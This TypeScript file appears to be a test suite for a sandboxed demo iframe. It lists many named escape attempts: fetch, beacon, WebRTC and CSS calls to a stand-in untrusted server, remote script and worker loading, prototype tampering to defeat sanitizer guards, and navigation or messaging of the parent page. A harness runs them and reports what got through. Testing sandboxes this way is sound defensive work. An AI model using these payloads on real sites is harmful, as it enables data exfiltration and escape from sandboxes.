// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the placeholders belong to the code in the strings
/**
 * An attempt to escape from the frame of an edited demo. The code is the body of an async function in the frame. Its
 * variables are: `url`, an address of an untrusted server; `host`, its name and port; `call(global)`, which calls the
 * server with the WebRTC of a global object; `place`, an element in the document; `React` and `createRoot`.
 */
export interface Attack {
  name: string;
  code: string;
}

/** Creates attacks from a table of names and code. */
function attacks(table: Record<string, string>): Attack[] {
  return Object.entries(table).map(([name, code]) => ({ name, code }));
}

/** Markup of a child frame, which attacks then use. */
const FRAME = '<iframe id="child"></iframe>';
const callChild = 'const child = document.querySelector("#child"); await call(child.contentWindow);';

const network = attacks({
  fetch: 'await fetch(url, { mode: "no-cors" });',
  'fetch, keepalive': 'await fetch(url, { mode: "no-cors", method: "POST", body: "x", keepalive: true });',
  fetchLater: 'fetchLater(url, { activateAfter: 0 });',
  XMLHttpRequest: 'const request = new XMLHttpRequest(); request.open("GET", url); request.send();',
  'XMLHttpRequest, synchronous':
    'const request = new XMLHttpRequest(); request.open("GET", url, false); request.send();',
  WebSocket: 'new WebSocket("ws://" + host);',
  WebSocketStream: 'new WebSocketStream("ws://" + host);',
  EventSource: 'new EventSource(url);',
  sendBeacon: 'navigator.sendBeacon(url, "x");',
  WebTransport: 'await new WebTransport("https://" + host).ready;',
  PresentationRequest: 'await new PresentationRequest(url).getAvailability();',
  PaymentRequest:
    'await new PaymentRequest([{ supportedMethods: url }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment();',
  'credentials of an untrusted host':
    'await navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: "x" }] } });',
  'sharedStorage worklet': 'await sharedStorage.worklet.addModule(url);',
  Notification: 'await Notification.requestPermission(); new Notification("x", { icon: url });',
  'service worker': 'await navigator.serviceWorker.register(url);',
});

const scripts = attacks({
  script: 'const script = document.createElement("script"); script.src = url; place.append(script);',
  'script in a shadow root':
    'const script = document.createElement("script"); script.src = url; place.attachShadow({ mode: "open" }).append(script);',
  'SVG script':
    'const script = document.createElementNS("http://www.w3.org/2000/svg", "script"); script.setAttribute("href", url); place.append(script);',
  'module script':
    'const script = document.createElement("script"); script.type = "module"; script.src = url; place.append(script);',
  'import()': 'await import(url);',
  'import() of data': 'await import("data:text/javascript," + encodeURIComponent(`import ${JSON.stringify(url)}`));',
  'import() of a blob':
    'await import(URL.createObjectURL(new Blob([`import ${JSON.stringify(url)}`], { type: "text/javascript" })));',
  'import map':
    'const map = document.createElement("script"); map.type = "importmap"; map.textContent = JSON.stringify({ imports: { out: url } }); place.append(map); await import("out");',
  'speculation rules':
    'const rules = document.createElement("script"); rules.type = "speculationrules"; rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [url], eagerness: "immediate" }] }); place.append(rules);',
  Worker: 'new Worker(url);',
  'Worker from a blob':
    'new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)}, { mode: "no-cors" })`])));',
  'Worker from data': 'new Worker("data:text/javascript," + encodeURIComponent(`fetch(${JSON.stringify(url)})`));',
  SharedWorker: 'new SharedWorker(url);',
  'audio worklet': 'await new AudioContext().audioWorklet.addModule(url);',
  'paint worklet': 'await CSS.paintWorklet.addModule(url);',
  'inline handler': 'place.innerHTML = `<img src="x" onerror="fetch(\'${url}\')">`;',
  'javascript: link': 'place.innerHTML = `<a href="javascript:fetch(\'${url}\')">x</a>`; place.firstChild.click();',
});

const media = attacks({
  'new Image()': 'new Image().src = url;',
  'img srcset': 'place.innerHTML = `<img srcset="${url} 2x">`;',
  picture: 'place.innerHTML = `<picture><source srcset="${url}"><img></picture>`;',
  'img with attribution': 'place.innerHTML = `<img attributionsrc="${url}">`;',
  'input type=image': 'place.innerHTML = `<input type="image" src="${url}">`;',
  'body background': 'document.body.setAttribute("background", url);',
  'table background': 'place.innerHTML = `<table background="${url}"><tr><td>x</table>`;',
  video: 'place.innerHTML = `<video src="${url}" poster="${url}" preload="auto" autoplay muted></video>`;',
  audio: 'new Audio(url).play();',
  source: 'place.innerHTML = `<video preload="auto" autoplay><source src="${url}"></video>`;',
  track:
    'place.innerHTML = `<video><track default kind="subtitles" src="${url}"></video>`; place.firstChild.textTracks[0].mode = "showing";',
  model: 'place.innerHTML = `<model src="${url}"></model>`;',
  'SVG image': 'place.innerHTML = `<svg><image href="${url}" xlink:href="${url}" width="9" height="9"/></svg>`;',
  'SVG use': 'place.innerHTML = `<svg><use href="${url}#a"/></svg>`;',
  'SVG feImage':
    'place.innerHTML = `<svg><filter id="f"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`;',
  'SVG in a picture':
    'place.innerHTML = `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/></svg>`)}">`;',
  'canvas pattern':
    'const image = new Image(); image.crossOrigin = "anonymous"; image.src = url; await image.decode();',
  'XML style sheet':
    'document.insertBefore(document.createProcessingInstruction("xml-stylesheet", `href="${url}" type="text/css"`), document.documentElement);',
  XSLT: `const parse = (text) => new DOMParser().parseFromString(text, "text/xml");
    const processor = new XSLTProcessor();
    processor.importStylesheet(parse(\`<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:import href="\${url}"/><x:template match="/"><b><x:copy-of select="document('\${url}')"/></b></x:template></x:stylesheet>\`));
    place.append(processor.transformToFragment(parse("<a/>"), document));`,
  'XML entity':
    'new DOMParser().parseFromString(`<!DOCTYPE a [<!ENTITY b SYSTEM "${url}">]><a>&b;</a>`, "application/xml");',
});

const css = Object.entries({
  '@import': '@import url("URL");',
  background: '#place { background: url("URL"); width: 9px; height: 9px }',
  'image-set': '#place { background: image-set("URL" 1x); width: 9px; height: 9px }',
  cursor: 'html { cursor: url("URL"), auto }',
  content: '#place::before { content: url("URL") }',
  'list-style': '#place { display: list-item; list-style: url("URL") }',
  'border-image': '#place { border: 1px solid; border-image: url("URL") 1 }',
  mask: '#place { mask: url("URL"); width: 9px; height: 9px; background: red }',
  filter: '#place { filter: url("URL#a"); width: 9px; height: 9px; background: red }',
  'clip-path': '#place { clip-path: url("URL#a"); width: 9px; height: 9px; background: red }',
  'shape-outside': '#place { float: left; shape-outside: url("URL"); width: 9px; height: 9px }',
  '@font-face': '@font-face { font-family: out; src: url("URL") } #place { font-family: out }',
  'a custom property': '#place { --out: url("URL"); background: var(--out); width: 9px; height: 9px }',
}).map(
  ([name, text]): Attack => ({
    name: `CSS ${name}`,
    code: `const style = document.createElement('style'); style.textContent = ${JSON.stringify(text)}.replaceAll('URL', url); document.head.append(style); place.textContent = 'x'; place.getBoundingClientRect();`,
  }),
);

const styles = attacks({
  'style attribute': 'place.style.background = `url("${url}")`;',
  'constructed sheet':
    'const sheet = new CSSStyleSheet(); sheet.replaceSync(`#place { background: url("${url}"); height: 9px }`); document.adoptedStyleSheets = [sheet];',
  FontFace: 'await new FontFace("out", `url("${url}")`).load();',
});

const links = [
  ...['preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'modulepreload', 'stylesheet', 'icon', 'manifest'].map(
    (rel): Attack => ({
      name: `link ${rel}`,
      code: `const link = document.createElement('link'); link.rel = '${rel}'; link.href = url; document.head.append(link);`,
    }),
  ),
  ...['script', 'image', 'font', 'fetch', 'style', 'track'].map(
    (as): Attack => ({
      name: `link preload as ${as}`,
      code: `place.innerHTML = \`<link rel="preload" as="${as}" href="\${url}" crossorigin>\`;`,
    }),
  ),
  ...attacks({
    'link of another spelling': 'place.innerHTML = `<LINK\\frel=preconnect href="${url}">`;',
    'link in SVG':
      'place.innerHTML = `<svg><foreignObject><link rel="preconnect" href="${url}"/></foreignObject></svg>`;',
    'link made by namespace':
      'const link = document.createElementNS("http://www.w3.org/1999/xhtml", "x:link"); link.rel = "preconnect"; link.href = url; place.append(link);',
    'link as the element of a document':
      'const { documentElement: link } = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "link"); link.rel = "preconnect"; link.href = url; place.append(link);',
    'link by XML with a prefix':
      'place.append(new DOMParser().parseFromString(`<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="preconnect" href="${url}"/>`, "text/xml").documentElement);',
    'link by an XML entity':
      "place.append(new DOMParser().parseFromString(`<!DOCTYPE a [<!ENTITY b \"&lt;l&#105;nk xmlns='http://www.w3.org/1999/xhtml' rel='preconnect' href='${url}'/>\">]><a>&b;</a>`, \"text/xml\").documentElement.firstChild);",
    'link by React': 'createRoot(place).render(React.createElement("link", { rel: "preconnect", href: url }));',
    'link by a document of its own':
      'const other = document.implementation.createHTMLDocument(); other.body.innerHTML = `<link rel="preconnect" href="${url}">`; place.append(other.body.firstChild);',
    'link written in pieces':
      'const other = document.implementation.createHTMLDocument(); other.open(); other.write("<li"); other.write(`nk rel="preconnect" href="${url}">`); other.close(); place.append(other.querySelector("link"));',
    'link after the guards were tampered with': `const { exec, test } = RegExp.prototype; const { match, toLowerCase } = String.prototype;
      RegExp.prototype.exec = () => null; RegExp.prototype.test = () => false; String.prototype.toLowerCase = () => 'div'; String.prototype.match = () => null;
      const link = document.createElement('link'); place.innerHTML = '<link>';
      Object.assign(RegExp.prototype, { exec, test }); Object.assign(String.prototype, { match, toLowerCase });
      link.rel = 'preconnect'; link.href = url; place.append(link);`,
    'link by a caught native': `const { call: oldCall, apply: oldApply } = Function.prototype; const natives = [];
      Function.prototype.call = function (...parts) { natives.push(this); return Reflect.apply(oldCall, this, parts); };
      Function.prototype.apply = function (...parts) { natives.push(this); return Reflect.apply(oldApply, this, parts); };
      document.createElement('b'); place.innerHTML = '<b></b>';
      Object.assign(Function.prototype, { call: oldCall, apply: oldApply });
      for (const native of natives) { const link = native.call(document, 'link'); link.rel = 'preconnect'; link.href = url; place.append(link); }`,
    'link whose name changes when it is read': `let reads = 0; const name = { toString: () => (reads++ ? 'link' : 'div') };
      const link = document.createElement(name); link.rel = 'preconnect'; link.href = url; place.append(link);`,
    'link by markup that changes when it is read':
      'let reads = 0; place.innerHTML = { toString: () => (reads++ ? `<link rel="preconnect" href="${url}">` : "<b></b>") };',
    'anchor prefetch': 'place.innerHTML = `<a rel="preconnect prefetch" href="${url}">x</a>`;',
  }),
];

const rtc = ['RTCPeerConnection', 'webkitRTCPeerConnection', 'mozRTCPeerConnection'].map(
  (name): Attack => ({ name, code: `await call({ RTCPeerConnection: globalThis.${name} });` }),
);

const children = [
  ...['iframe', 'frame', 'object', 'embed', 'portal', 'fencedframe'].map(
    (tag): Attack => ({
      name: `createElement('${tag}')`,
      code: `const child = document.createElement('${tag}'); ${tag === 'frame' ? "const set = document.createElement('frameset'); set.append(child); document.documentElement.append(set);" : 'place.append(child);'} await call(child.contentWindow);`,
    }),
  ),
  ...attacks({
    "createElement('IFRAME')":
      'const child = document.createElement("IFRAME"); place.append(child); await call(child.contentWindow);',
    createElementNS:
      'const child = document.createElementNS("http://www.w3.org/1999/xhtml", "iframe"); place.append(child); await call(child.contentWindow);',
    'Document.prototype.createElement of another document':
      'const child = document.implementation.createHTMLDocument().createElement("iframe"); place.append(child); await call(child.contentWindow);',
    createDocument:
      'const child = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe").documentElement; place.append(child); await call(child.contentWindow);',
    'customized element':
      'class Child extends HTMLIFrameElement {} customElements.define("a-child", Child, { extends: "iframe" }); const child = new Child(); place.append(child); await call(child.contentWindow);',
    innerHTML: `place.innerHTML = '${FRAME}'; ${callChild}`,
    'innerHTML, unclosed': `place.innerHTML = '<IfRaMe\\nid=child'+'>'; ${callChild}`,
    outerHTML: `const inner = document.createElement('b'); place.append(inner); inner.outerHTML = '${FRAME}'; ${callChild}`,
    insertAdjacentHTML: `place.insertAdjacentHTML('beforeend', '${FRAME}'); ${callChild}`,
    createContextualFragment: `place.append(document.createRange().createContextualFragment('${FRAME}')); ${callChild}`,
    DOMParser: `place.append(document.adoptNode(new DOMParser().parseFromString('${FRAME}', 'text/html').body.firstChild)); ${callChild}`,
    'DOMParser, XHTML': `place.append(document.importNode(new DOMParser().parseFromString('<iframe xmlns="http://www.w3.org/1999/xhtml" id="child"/>', 'application/xhtml+xml').documentElement, true)); ${callChild}`,
    setHTMLUnsafe: `place.setHTMLUnsafe('${FRAME}'); ${callChild}`,
    setHTML: `place.setHTML('${FRAME}', { sanitizer: {} }); ${callChild}`,
    parseHTMLUnsafe: `place.append(Document.parseHTMLUnsafe('${FRAME}').body.firstChild); ${callChild}`,
    streamHTMLUnsafe: `const writer = place.streamHTMLUnsafe().getWriter(); writer.write('<ifr'); writer.write('ame id="child">'); await writer.close(); ${callChild}`,
    streamAppendHTMLUnsafe: `const writer = place.streamAppendHTMLUnsafe().getWriter(); writer.write('<ifr'); writer.write('ame id="child">'); await writer.close(); ${callChild}`,
    appendHTMLUnsafe: `place.appendHTMLUnsafe('${FRAME}'); ${callChild}`,
    'execCommand insertHTML': `place.contentEditable = 'true'; place.focus(); document.execCommand('insertHTML', false, '${FRAME}'); ${callChild}`,
    template: `const template = document.createElement('template'); template.innerHTML = '${FRAME}'; place.append(template.content.cloneNode(true)); ${callChild}`,
    'shadow root': `const root = place.attachShadow({ mode: 'open' }); root.innerHTML = '${FRAME}'; await call(root.firstChild.contentWindow);`,
    'declarative shadow root': `place.setHTMLUnsafe('<div><template shadowrootmode="open">${FRAME}</template></div>'); await call(place.firstChild.shadowRoot.firstChild.contentWindow);`,
    'SVG foreignObject': `place.innerHTML = '<svg><foreignObject>${FRAME}</foreignObject></svg>'; ${callChild}`,
    'MathML annotation': `place.innerHTML = '<math><annotation-xml encoding="text/html">${FRAME}</annotation-xml></math>'; ${callChild}`,
    XSLTProcessor: `const processor = new XSLTProcessor();
      processor.importStylesheet(new DOMParser().parseFromString('<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:output method="html"/><x:template match="/"><x:element name="{concat(&quot;ifr&quot;,&quot;ame&quot;)}" namespace="http://www.w3.org/1999/xhtml"/></x:template></x:stylesheet>', 'text/xml'));
      const child = processor.transformToFragment(new DOMParser().parseFromString('<a/>', 'text/xml'), document).firstChild;
      place.append(child); await call(child.contentWindow);`,
    srcdoc: `const child = document.createElement('iframe'); child.srcdoc = '<script>parent.call(window)</script>'; globalThis.call = call; place.append(child); await call(child.contentWindow);`,
    'the sandbox in srcdoc': `const child = document.createElement('iframe'); child.srcdoc = document.documentElement.outerHTML; place.append(child);
      await new Promise((resolve) => { child.onload = resolve; });
      const { port1, port2 } = new MessageChannel();
      child.contentWindow.postMessage('', '*', [port2]);
      const text = '(' + call + ')(globalThis, "' + url + '")';
      port1.postMessage(JSON.stringify({ type: 'script', text })); port1.postMessage(JSON.stringify({ type: 'setup', scripts: [text] }));`,
    'javascript: frame': `const child = document.createElement('iframe'); child.src = 'javascript:parent.call(window)'; globalThis.call = call; place.append(child); await call(child.contentWindow);`,
    'frame from a blob': `const child = document.createElement('iframe'); child.src = URL.createObjectURL(new Blob(['<script>(' + call + ')(window, "' + url + '")</script>'], { type: 'text/html' })); place.append(child); await call(child.contentWindow);`,
    'frame from data': `const child = document.createElement('iframe'); child.src = 'data:text/html,' + encodeURIComponent('<script>(' + call + ')(window, "' + url + '")</script>'); place.append(child); await call(child.contentWindow);`,
    'frame of an untrusted host': `const child = document.createElement('iframe'); child.src = url; place.append(child);`,
    'object of an untrusted host': 'place.innerHTML = `<object data="${url}"></object>`;',
    'embed of an untrusted host': 'place.innerHTML = `<embed src="${url}" type="text/html">`;',
    'applet of an untrusted host': 'place.innerHTML = `<applet code="x" codebase="${url}" archive="${url}"></applet>`;',
    'frame by React': `createRoot(place).render(React.createElement('iframe', { id: 'child', ref: (child) => child && call(child.contentWindow) }));`,
    'frame by dangerouslySetInnerHTML': `createRoot(place).render(React.createElement('div', { dangerouslySetInnerHTML: { __html: '${FRAME}' }, ref: (element) => element && call(element.firstChild.contentWindow) }));`,
    'first of the frames': 'place.innerHTML = "<iframe name=RTC></iframe>"; await call(frames[0]);',
    'frame by its name': 'place.innerHTML = "<iframe name=RTC></iframe>"; await call(globalThis.RTC);',
    'frames of the page': 'for (let i = 0; i < parent.length; i++) if (parent[i] !== window) await call(parent[i]);',
    'document.write': `document.write('${FRAME}'); ${callChild}`,
    'document.write in pieces': `document.write('<ifr'); document.write('ame id="child"></iframe>'); ${callChild}`,
    frameset: `const set = document.createElement('frameset'); set.innerHTML = '<frame>'; document.body = set; await call(frames[0]);`,
  }),
];

/** Attacks on the page, or on its storage. */
const page = attacks({
  'parent.document': 'parent.document.title = "taken";',
  'top.document': 'top.document.body.textContent = "taken";',
  frameElement: 'frameElement.removeAttribute("sandbox");',
  'document.domain': 'document.domain = "localhost"; parent.taken = true;',
  'a property of the page': 'parent.taken = true;',
  'leading the page away': 'parent.location = url;',
  'leading the top away': 'top.location.href = url;',
  'replacing the page': 'top.location.replace(url);',
  'leading the page to code': 'parent.location = "javascript:document.title=\'taken\'";',
  'a link to the top': 'place.innerHTML = `<a target="_top" href="${url}">x</a>`; place.firstChild.click();',
  'a form to the top':
    'place.innerHTML = `<form target="_top" action="${url}"><input name="a"></form>`; place.firstChild.submit();',
  'window.open': 'open(url);',
  'window.open of the page': 'open(url, "_top"); open(url, "_parent");',
  'a mere link': 'place.innerHTML = `<a href="#x">x</a>`; place.firstChild.click();',
  'a link with a ping': 'place.innerHTML = `<a href="#x" ping="${url}">x</a>`; place.firstChild.click();',
  'closing the page': 'parent.close(); top.close();',
  'messages to the page': `for (const type of ['ready', 'rendered', 'failed', 'height', 'setup', 'SDK_INIT_SUCCESS', 'dumi.liveDemo.setSource'])
    parent.postMessage({ type, action: type, run: 1, height: 3999, failure: { kind: 'setup', message: 'taken' }, styles: { a: 'taken' }, nonce: location.hash.slice(1) }, '*', [new MessageChannel().port1]);`,
  dialogs: 'alert("taken"); confirm("taken"); prompt("taken"); print();',
  cookies: 'document.cookie = "taken=1";',
  localStorage: 'localStorage.setItem("taken", 1);',
  sessionStorage: 'sessionStorage.setItem("taken", 1);',
  indexedDB: 'indexedDB.open("taken");',
  caches: 'await caches.open("taken");',
  BroadcastChannel: 'new BroadcastChannel("taken").postMessage("taken");',
  'a policy that reports':
    'const meta = document.createElement("meta"); meta.httpEquiv = "Content-Security-Policy"; meta.content = `img-src \'none\'; report-uri ${url}`; document.head.append(meta); new Image().src = "data:,";',
  base: 'const base = document.createElement("base"); base.href = url; document.head.append(base); new Image().src = "picture";',
  'full screen': 'await document.documentElement.requestFullscreen();',
});

/** Attacks that call an untrusted server, or create something that could. */
export const CALLING: Attack[] = [...network, ...scripts, ...media, ...css, ...styles, ...links, ...rtc, ...children];

/** Attacks after which the frame still has its document. */
export const STAYING: Attack[] = [...page, ...CALLING];

/** Attacks that navigate the frame or a window. */
export const LEAVING: Attack[] = attacks({
  'location.href': 'location.href = url;',
  'location.replace': 'location.replace(url);',
  'window.open of itself': 'open(url, "_self");',
  'a link': 'place.innerHTML = `<a href="${url}" ping="${url}">x</a>`; place.firstChild.click();',
  'a download': 'place.innerHTML = `<a download href="${url}">x</a>`; place.firstChild.click();',
  'a link to a new window': 'place.innerHTML = `<a target="_blank" href="${url}">x</a>`; place.firstChild.click();',
  'an SVG link':
    'place.innerHTML = `<svg><a href="${url}"><text>x</text></a></svg>`; place.querySelector("a").dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));',
  'a form': 'place.innerHTML = `<form action="${url}"><input name="a" value="b"></form>`; place.firstChild.submit();',
  'a form, posted':
    'place.innerHTML = `<form action="${url}" method="post"><input name="a"><button></button></form>`; place.querySelector("button").click();',
  'a button of its own address':
    'place.innerHTML = `<form><button formaction="${url}"></button></form>`; place.querySelector("button").click();',
  'meta refresh': 'place.innerHTML = `<meta http-equiv="refresh" content="0;url=${url}">`;',
  'meta refresh, made':
    'const meta = document.createElement("meta"); meta.httpEquiv = "refresh"; meta.content = `0;url=${url}`; document.head.append(meta);',
  'navigation.navigate': 'navigation.navigate(url);',
  'by way of data':
    'location.href = "data:text/html," + encodeURIComponent(`<script>location = ${JSON.stringify(url)}</script>`);',
  'by way of a blob':
    'location.href = URL.createObjectURL(new Blob([`<script>location = ${JSON.stringify(url)}</script>`], { type: "text/html" }));',
  'by way of a javascript: address': 'location.href = `javascript:"<img src=${url}>"`;',
});

/** Elements that must not be in the document, however they were created. */
const CLOSED = 'iframe, frame, object, embed, portal, fencedframe, link, meta';

/** An attack with the address of the server that it calls. */
export type ArmedAttack = Attack & { host: string };

/**
 * Returns code that runs attacks one after the other, and calls `end` with the forbidden elements that were created.
 */
function attackingCode(attacks: ArmedAttack[]): string {
  return `const AsyncFunction = (async () => {}).constructor;
const wait = (time) => new Promise((resolve) => setTimeout(resolve, time));
const made = [];
const call = async (global, url) => {
  const address = url.slice(7, -1);
  const connection = new global.RTCPeerConnection({
    iceServers: [{ urls: 'stun:' + address }, { urls: 'turn:' + address + '?transport=tcp', username: 'a', credential: 'b' }],
  });
  globalThis.made?.push('a connection for ' + address);
  connection.createDataChannel('a');
  await connection.setLocalDescription(await connection.createOffer());
  await new Promise((resolve) => setTimeout(resolve, 300));
};
const attack = async ({ code, host }) => {
  const url = 'http://' + host + '/';
  const place = document.createElement('div');
  place.id = 'place';
  (document.body ?? document.documentElement).append(place);
  const run = new AsyncFunction('url', 'host', 'call', 'place', 'React', 'createRoot', code);
  await run(url, host, Object.assign((global) => call(global, url), { toString: () => String(call) }), place, React, createRoot);
};
const closedIn = (root) => [
  ...root.querySelectorAll('${CLOSED}'),
  ...[...root.querySelectorAll('*')].flatMap(({ shadowRoot }) => (shadowRoot ? closedIn(shadowRoot) : [])),
];
(async () => {
  globalThis.made = made;
  const outcomes = [];
  for (const { name, ...rest } of ${JSON.stringify(attacks)}) {
    const done = attack(rest).then(() => 'done', String).then((outcome) => outcomes.push([name, outcome]));
    await Promise.race([done, wait(30)]);
    // Lets the thread pause, because a loop that keeps it busy for a second is stopped.
    await wait(0);
    for (const { localName } of closedIn(document)) made.push(name + ' made <' + localName + '>');
    document.querySelector('#place')?.remove();
  }
  await wait(500);
  end(made, outcomes);
})();`;
}

/** Returns a demo that runs attacks. At the end it throws an error that lists the elements that it could create. */
export function attackingDemo(attacks: ArmedAttack[]): string {
  return `import * as React from 'react';
import { createRoot } from 'react-dom/client';
const end = (made) => {
  // Again and again: what an attack throws later takes its place in the box.
  setInterval(() => Promise.reject(new Error('All attacks were made: ' + (made.join(', ') || 'nothing came of them'))), 300);
};
${attackingCode(attacks)}
export default () => <p>attacks</p>;
`;
}

/** Returns a page that runs the same attacks without a frame or a policy. It sets `window.outcomes` at the end. */
export function attackingPage(attacks: ArmedAttack[]): string {
  const code = attackingCode(attacks).replaceAll('</', '<\\/');
  return `<!doctype html><body><script>const React = {}, createRoot = () => {}, end = (_, outcomes) => Object.assign(window, { outcomes });${code}</script>`;
}
